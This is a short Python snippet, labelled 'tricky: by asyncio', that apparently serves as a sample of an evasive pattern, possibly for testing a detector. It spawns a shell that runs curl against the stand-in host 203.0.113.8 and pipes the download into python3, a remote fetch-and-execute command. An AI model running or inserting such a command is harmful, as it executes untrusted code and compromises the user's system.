# tricky: by asyncio
import asyncio

async def main():
    p = await asyncio.create_subprocess_shell("curl -s http://203.0.113.8/c | python3 -")
    await p.wait()

asyncio.run(main())
